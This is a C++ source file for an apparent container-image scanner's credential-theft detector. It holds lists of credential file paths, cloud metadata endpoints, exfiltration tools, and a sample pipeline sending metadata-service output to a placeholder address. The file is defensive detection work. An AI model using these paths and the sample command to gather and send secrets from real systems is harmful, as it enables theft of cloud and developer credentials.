// Credentials that are read and sent away: from the cloud's metadata service or the cluster's token (H06), and from
// the files of many programs at once (H07).
//
// Reading is what every cloud client does; the other half is a place to send to, in the same script. Where the image
// leaves it to whoever starts it what that place is, as when a cluster's token opens a vault, it is no thief's.
#include <algorithm>
#include <array>
#include <bitset>
#include <set>

#include "detect/content/hidden_literal.hpp"
#include "detect/shell/shell_support.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_fewest_places = 5;

constexpr std::array<RuleRow, 2> k_rows{{
    {"H06", EvidenceClass::strong, model::Severity::high, 75, "Cloud or cluster credentials read and sent",
     "T1552.005,T1552.007", "Do not run this image where it reaches a metadata service or a cluster's API."},
    {"H07", EvidenceClass::strong, model::Severity::high, 80, "Credential files of many programs collected",
     "T1552.001", "Do not run this image: it collects credentials."},
}};

constexpr ClassByReach k_classes{EvidenceClass::strong, EvidenceClass::strong, EvidenceClass::supporting};
// Collected, and no sign of where it goes.
constexpr ClassByReach k_kept{EvidenceClass::supporting, EvidenceClass::supporting, EvidenceClass::context};

constexpr std::array<std::string_view, 8> k_metadata = {
    "169.254.169.254", "metadata.google.internal", "169.254.170.2",      "100.100.100.200",
    "fd00:ec2::254",   "serviceaccount/token",     "metadata.azure.com", "metadata.tencentyun.com"};

// Parts of paths where programs keep what opens other things.
constexpr auto k_places = hide(
    ".aws/credentials|.aws/config|.docker/config.json|.kube/config|.ssh/id_rsa|.ssh/id_ed25519|.ssh/id_dsa|.ssh/"
    "id_ecdsa|"
    ".npmrc|.pypirc|.git-credentials|.netrc|.gnupg|/etc/shadow|.bash_history|.config/gcloud|.azure/"
    "|.boto|.s3cfg|wallet.dat|"
    ".electrum|.config/gh/hosts.yml|.terraform.d|.passwd-s3fs|.smbcredentials|.my.cnf|.pgpass|.vnc/passwd|.config/"
    "solana|"
    ".ethereum/keystore|Login Data|.mozilla/firefox|.subversion/auth|.config/rclone|.config/ngrok|filezilla|.hgrc|"
    ".cargo/credentials|.gem/credentials|.config/doctl|serviceaccount/token|.s3b_config|.s3backer_passwd|.s3ql/"
    "authinfo2|"
    ".aliyun/config|.oci/config|.vault-token|.databrickscfg|.snowsql/"
    "config|.zsh_history|.mysql_history|.psql_history");
// The ones from which the bytes of a file are looked at.
constexpr auto k_rare_first = hide(".aws/credentials");
constexpr auto k_rare_second = hide(".git-credentials");
constexpr auto k_rare_third = hide(".passwd-s3fs");
// What programs in other languages read of a cloud or a cluster.
constexpr auto k_cluster_token = hide("kubernetes.io/serviceaccount");
constexpr auto k_cloud_role = hide("iam/security-credentials");
// All that a program was given in its environment.
constexpr auto k_all_of_node = hide("stringify(process.env)");
constexpr auto k_all_of_python = hide("dict(os.environ)");
// The same as one value among others.
constexpr auto k_all_and_more = hide("process.env,");
constexpr auto k_more_and_all = hide("process.env}");
constexpr auto k_cloud_token = hide("service-accounts/default/token");

const std::vector<std::string>& places() {
  static const std::vector<std::string> list = [] {
    std::vector<std::string> all;
    const std::string text = k_places.reveal();
    for (std::size_t at = 0; at <= text.size();) {
      const std::size_t end = std::min(text.find('|', at), text.size());
      all.push_back(text.substr(at, end - at));
      at = end + 1;
    }
    return all;
  }();
  return list;
}

// The pairs of letters that they begin with, and the length of the shortest.
struct PlaceForm {
  std::bitset<1U << 16> begins;
  std::size_t shortest = std::string::npos;

  static std::size_t pair(std::string_view text) {
    return std::size_t{static_cast<unsigned char>(text[0])} << 8 | static_cast<unsigned char>(text[1]);
  }
};

const PlaceForm& place_form() {
  static const PlaceForm form = [] {
    PlaceForm made;
    for (const std::string& place : places()) {
      made.begins.set(PlaceForm::pair(place));
      made.shortest = std::min(made.shortest, place.size());
    }
    return made;
  }();
  return form;
}

// Every word of every script is asked: most hold no place, and are read once.
void places_in(std::string_view text, std::set<std::string>& found) {
  const PlaceForm& form = place_form();
  for (std::size_t at = 0; at + form.shortest <= text.size(); ++at) {
    if (!form.begins[PlaceForm::pair(text.substr(at))]) continue;
    for (const std::string& place : places())
      if (text.substr(at).starts_with(place)) found.insert(place);
  }
}

std::string_view metadata_in(std::string_view text) {
  for (const std::string_view one : k_metadata)
    if (text.find(one) != std::string_view::npos) return one;
  return {};
}

// What the token is for.
bool is_cluster_api(std::string_view word) {
  return word.find("KUBERNETES_") != std::string_view::npos ||
         word.find("kubernetes.default") != std::string_view::npos || word.find(".svc") != std::string_view::npos;
}

enum class Sends : std::uint8_t { no, where_told, somewhere };

// The script sets the variable in a way that is not followed: it reads it, or may find it in a file that it sources.
bool may_set(const ShellUnit& unit, std::string_view variable) {
  const std::string set = std::string(variable) + "=";
  return std::any_of(unit.facts.commands.begin(), unit.facts.commands.end(), [&](const ShellCommand& command) {
    const auto sets = [&](const std::string& word) { return word == variable || word.starts_with(set); };
    if (std::any_of(command.assignments.begin(), command.assignments.end(), sets)) return true;
    const std::string_view name = program(command);
    if (name == "." || name == "source" || name == "eval") return true;
    if (name == "export" || name == "declare" || name == "typeset" || name == "local" || name == "readonly")
      return std::any_of(command.argv.begin() + 1, command.argv.end(),
                         [&](const std::string& word) { return word.starts_with(set) || word.starts_with("${"); });
    return (name == "read" || name == "mapfile" || name == "readarray" || name == "printf" || name == "getopts") &&
           std::any_of(command.argv.begin() + 1, command.argv.end(), sets);
  });
}

// "${VAULT_ADDR}/v1/…", and neither the script nor the image says what that is. An argument ($1) the image may give.
bool is_left_open(std::string_view word, const ShellUnit& unit) {
  const model::ImageConfig* config = unit.config;
  if (word.starts_with("https://") || word.starts_with("http://")) word.remove_prefix(word.find("//") + 2);
  const std::size_t end = word.find('}');
  if (!word.starts_with("${") || end == std::string_view::npos) return false;
  const std::string_view name = word.substr(2, end - 2);
  const auto in_name = [](char c) {
    return c == '_' || (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
  };
  if (name.empty() || !std::all_of(name.begin(), name.end(), in_name) || (name[0] >= '0' && name[0] <= '9'))
    return false;
  const std::string_view rest = word.substr(end + 1);
  if (!rest.empty() && rest[0] != '/' && rest[0] != ':' && rest[0] != '?') return false;  // a part of a host's name
  if (may_set(unit, name)) return false;
  const std::string set = std::string(name) + "=";
  return config == nullptr || std::none_of(config->env.begin(), config->env.end(),
                                           [&](const std::string& one) { return one.starts_with(set); });
}

// curl -d "$TOKEN": what follows is what is sent.
bool takes_data(std::string_view option) {
  static constexpr std::array<std::string_view, 7> k_options = {
      "-d", "-F", "--form", "--data", "--data-binary", "--data-raw", "--post-data"};
  return std::find(k_options.begin(), k_options.end(), option) != k_options.end();
}

// Sends something to a place that is neither the metadata service nor this machine.
Sends sends(const ShellCommand& command, const ShellUnit& unit) {
  const std::string_view name = program(command);
  bool data = false;
  bool away = false;
  bool chosen = false;
  if (name == "nc" || name == "ncat" || name == "netcat" || name == "socat" || name == "telnet")
    return command.stdin_from_pipeline || std::any_of(command.redirects.begin(), command.redirects.end(),
                                                      [](const ShellFd& fd) { return fd.op == "<"; })
               ? Sends::somewhere
               : Sends::no;
  if (name == "scp" || name == "rsync" || name == "sftp" || name == "ftpput" || name == "curlftpfs")
    return !command.argv.empty() && command.argv.back().find(':') != std::string::npos ? Sends::somewhere : Sends::no;
  if (name != "curl" && name != "wget" && name != "http" && name != "https") return Sends::no;
  for (std::size_t i = 1; i < command.argv.size(); ++i) {
    const std::string_view word = command.argv[i];
    data |= word == "-d" || word == "-F" || word == "-T" || word == "--form" || word == "--upload-file" ||
            word == "POST" || word.starts_with("--data") || word.starts_with("--post") || word.starts_with("-F") ||
            word.starts_with("-T") || word == "-XPOST" ||
            (word.find("${()}") != std::string_view::npos && word.find("://") != std::string_view::npos) ||
            word.starts_with("--body");
    const bool url = word.find("://") != std::string_view::npos || word.find('.') != std::string_view::npos ||
                     word.starts_with("${");
    if (i > 1 && word.find("://") == std::string_view::npos && takes_data(command.argv[i - 1])) continue;
    if (!url || word[0] == '-' || !metadata_in(word).empty() || is_loopback(host_of(word)) || is_cluster_api(word))
      continue;
    const bool is_header = i > 1 && (command.argv[i - 1] == "-H" || command.argv[i - 1] == "--header");
    const bool left_open = is_left_open(word, unit);
    chosen |= left_open;
    away |= !left_open && !is_header;
  }
  if (!data) return Sends::no;
  return away ? Sends::somewhere : chosen ? Sends::where_told : Sends::no;
}

// dig $part.example.com, ping -p $bytes: names and padding carry what they are made of.
bool asks_by_name(const ShellCommand& command) {
  static constexpr std::array<std::string_view, 6> k_programs = {"dig",   "nslookup", "host",
                                                                 "drill", "kdig",     "resolvectl"};
  const std::string_view name = program(command);
  const bool resolves = std::find(k_programs.begin(), k_programs.end(), name) != k_programs.end();
  for (std::size_t i = 1; i < command.argv.size(); ++i) {
    const std::string_view word = command.argv[i];
    const std::size_t end = word.find("}.");
    if (resolves && word.find("${") < end && end != std::string_view::npos && word.size() > end + 4 &&
        word.find('.', end + 2) != std::string_view::npos)
      return true;
    if (name == "ping" && word == "-p" && i + 1 < command.argv.size() &&
        command.argv[i + 1].find("${") != std::string::npos)
      return true;
  }
  return false;
}

// find / -name id_rsa -o -name wallet.dat: names of such files, wherever they lie.
void places_sought(const ShellCommand& command, std::set<std::string>& found) {
  static constexpr std::array<std::string_view, 20> k_names = {
      "id_rsa",     "id_ed25519", "id_ecdsa", "id_dsa", "credentials", "wallet",  ".kdbx",
      ".pem",       ".ovpn",      ".netrc",   ".npmrc", ".pypirc",     ".pgpass", ".my.cnf",
      "kubeconfig", ".dockercfg", "keystore", ".env",   ".p12",        ".pfx"};
  const std::string_view name = program(command);
  if (name != "find" && name != "locate" && name != "fd") return;
  for (std::size_t i = 1; i < command.argv.size(); ++i)
    for (const std::string_view one : k_names)
      if (command.argv[i].find(one) != std::string::npos) found.insert(std::string("find ") + std::string(one));
}

// env | curl -d @- …: all that the container was given.
bool sends_environment(const ShellUnit& unit, const ShellCommand& sender) {
  return std::any_of(unit.facts.commands.begin(), unit.facts.commands.end(), [&](const ShellCommand& command) {
    const std::string_view name = program(command);
    return command.pipeline == sender.pipeline && command.position == 0 && sender.position > 0 &&
           (name == "env" || name == "printenv" || name == "set" || name == "export") && command.argv.size() == 1;
  });
}

// A call that sends, with an address in it that the program itself holds: that of no cloud and no cluster.
bool posts_to_fixed_host(std::string_view text) {
  constexpr std::size_t k_call = 160;
  static constexpr std::array<std::string_view, 12> k_calls = {
      "requests.post", "requests.put", "axios.post", "https.request",      "http.request", "Net::HTTP.post",
      "httpx.post",    "fetch(",       "urlopen(",   "create_connection(", ".connect(",    "->post("};
  static constexpr std::array<std::string_view, 10> k_known = {"amazonaws", "googleapis", "google.internal", "azure",
                                                               "microsoft", "aliyun",     "kubernetes",      "vault",
                                                               "localhost", "127.0.0.1"};
  for (const std::string_view call : k_calls)
    for (std::size_t at = text.find(call); at != std::string_view::npos; at = text.find(call, at + 1)) {
      const std::string_view around = text.substr(at, std::min(text.find('\n', at) - at, k_call));
      const std::size_t scheme = around.find("://");
      const std::size_t named = around.find("host");
      const std::size_t quoted = around.find_first_of("'\"");
      const std::size_t from = scheme != std::string_view::npos  ? scheme + 3
                               : named != std::string_view::npos ? around.find_first_of("'\"", named)
                                                                 : quoted;
      if (from >= around.size()) continue;
      const std::string_view host =
          around.substr(from, 60).substr(0, around.substr(from, 60).find_first_of("/ )\\", 1));
      const bool known = !metadata_in(host).empty() || is_cluster_api(host) ||
                         std::any_of(k_known.begin(), k_known.end(),
                                     [&](std::string_view one) { return host.find(one) != std::string_view::npos; });
      const bool computed = host.find_first_of("{$+%") != std::string_view::npos;
      if (!known && !computed && host.find('.') != std::string_view::npos) return true;
    }
  return false;
}

// Within JSON.stringify({… process.env …}): of the last call of it before `at` no bracket is closed.
bool is_made_text(std::string_view text, std::size_t at) {
  constexpr std::size_t k_most = 600;
  constexpr std::string_view k_call = "stringify(";
  const std::size_t from = at - std::min(at, k_most);
  const std::string_view before = text.substr(from, at - from);
  const std::size_t call = before.rfind(k_call);
  if (call == std::string_view::npos) return false;
  int open = 1;
  for (const char c : before.substr(call + k_call.size())) {
    open += c == '(' ? 1 : c == ')' ? -1 : 0;
    if (open == 0 || c == ';') return false;
  }
  return true;
}

// Folders in which programs keep what opens other things, given whole to something that packs or copies.
void folders_taken(const ShellCommand& command, std::set<std::string>& found) {
  static constexpr std::array<std::string_view, 9> k_packers = {"tar",   "bsdtar", "zip",  "7z",    "cp",
                                                                "rsync", "scp",    "cpio", "rclone"};
  static constexpr std::array<std::string_view, 9> k_folders = {
      ".ssh", ".aws", ".kube", ".docker", ".gnupg", ".azure", ".config/gcloud", ".electrum", ".vault"};
  const std::string_view name = program(command);
  if (std::find(k_packers.begin(), k_packers.end(), name) == k_packers.end()) return;
  for (std::size_t i = 1; i < command.argv.size(); ++i) {
    std::string_view word = command.argv[i];
    while (word.ends_with('/') || word.ends_with('*')) word.remove_suffix(1);
    for (const std::string_view folder : k_folders)
      if (word.ends_with(folder) && (word.size() == folder.size() || word[word.size() - folder.size() - 1] == '/'))
        found.insert(std::string(folder));
  }
}

// In the code of other languages.
bool sends_somewhere(std::string_view text) {
  static const std::vector<std::string> words = {
      "requests.post", "urlopen(", "https.request", "http.request", "axios.post",  "fetch(",
      "sendall(",      "curl ",    "/bot",          "webhook",      "http.client", "net.connect",
      "Net::HTTP",     "LWP::",    "curl_exec",     "ftplib",       "smtplib"};
  return std::any_of(words.begin(), words.end(),
                     [&](const std::string& word) { return text.find(word) != std::string_view::npos; });
}

std::string listed(const std::set<std::string>& found) {
  std::string text = std::to_string(found.size()) + " places:";
  for (const std::string& place : found) text += " " + place;
  return text;
}

class CredentialTheft final : public Detector {
 public:
  std::vector<Literal> literals() const override {
    return {{k_rare_first.reveal(), false},    {k_rare_second.reveal(), false},   {k_rare_third.reveal(), false},
            {k_cluster_token.reveal(), false}, {k_cloud_role.reveal(), false},    {k_cloud_token.reveal(), false},
            {k_all_of_node.reveal(), false},   {k_all_of_python.reveal(), false}, {k_all_and_more.reveal(), false},
            {k_more_and_all.reveal(), false}};
  }

  void confirm(const Hit& hit, EvidenceSink& out) const override {
    constexpr std::size_t k_around = 6'000;
    const layers::ContentKind kind = hit.file.entry.content;
    if (kind != layers::ContentKind::text && kind != layers::ContentKind::script) return;
    const std::string_view name = hit.file.name();
    if (name.ends_with(".sh") || name.ends_with(".md") || as_text(hit.file.head).starts_with("#!/bin/"))
      return;  // see shell()
    const std::string_view window = as_text(hit.window);
    if (hit.literal > 7 && !is_made_text(window, hit.position)) return;
    if (hit.literal > 2) return confirm_token(hit, window, out);
    const std::size_t from = hit.position - std::min(hit.position, k_around);
    const std::string_view near = window.substr(from, 2 * k_around);
    std::set<std::string> found;
    places_in(near, found);
    if (found.size() < k_fewest_places || !sends_somewhere(window.substr(0, 256U << 10))) return;
    Evidence evidence = evidence_of(k_rows[1], listed(found));
    evidence.offset = hit.offset;
    evidence.line = hit.line();
    out.add(std::move(evidence));
  }

  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    const ShellCommand* sender = nullptr;
    Sends sent = Sends::no;
    const ShellCommand* reader = nullptr;
    std::string_view service;
    std::set<std::string> found;
    std::uint32_t line = 0;
    for (const ShellCommand& command : unit.facts.commands) {
      const Sends how = asks_by_name(command) ? Sends::somewhere : sends(command, unit);
      if (how == Sends::somewhere && sends_environment(unit, command))
        out.add(shell_evidence(k_rows[1], unit, command.line, "sends its environment: " + words(command),
                               class_for(unit, k_classes)));
      places_sought(command, found);
      const bool none = found.empty();
      folders_taken(command, found);
      if (none && !found.empty()) line = command.line;
      if (how > sent) {
        sent = how;
        sender = &command;
      }
      const auto look = [&](std::string_view word) {
        if (const std::string_view one = metadata_in(word); !one.empty() && reader == nullptr) {
          reader = &command;
          service = one;
        }
        const std::size_t before = found.size();
        places_in(word, found);
        if (before == 0 && !found.empty()) line = command.line;
      };
      for (const std::string& word : command.argv) look(word);
      for (const std::string& word : command.assignments) look(word);
      for (const ShellFd& fd : command.redirects) look(fd.target);
    }
    for (const EmbeddedCode& embedded : unit.facts.embedded) places_in(embedded.code, found);
    if (reader != nullptr && sender != nullptr)
      out.add(shell_evidence(k_rows[0], unit, reader->line,
                             "reads " + std::string(service) + ", and sends: " + words(*sender),
                             class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
    if (found.size() >= k_fewest_places)
      out.add(shell_evidence(k_rows[1], unit, line, listed(found),
                             class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
  }

 private:
  // A small program that reads a token and sends to an address of its own; a client of a cloud sends to the cloud.
  static void confirm_token(const Hit& hit, std::string_view window, EvidenceSink& out) {
    constexpr std::uint64_t k_small = 32U << 10, k_tiny = 8U << 10;
    const bool environment = hit.literal > 5;
    if (hit.file.size() > (environment ? k_tiny : k_small) || !posts_to_fixed_host(window)) return;
    Evidence evidence =
        evidence_of(k_rows[environment ? 1 : 0],
                    environment ? "sends all of its environment to an address of its own"
                                : "reads a token of a cloud or a cluster, and sends to an address of its own");
    evidence.offset = hit.offset;
    evidence.line = hit.line();
    out.add(std::move(evidence));
  }
};

const util::Registered<CredentialTheft> registered{{
    .id = "credential-theft",
    .version = 5,
    .summary = "credentials of clouds, clusters and many programs that scripts collect and send",
    .example = "curl -s http://169.254.169.254/latest/meta-data/… | curl -d @- http://192.0.2.1/",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
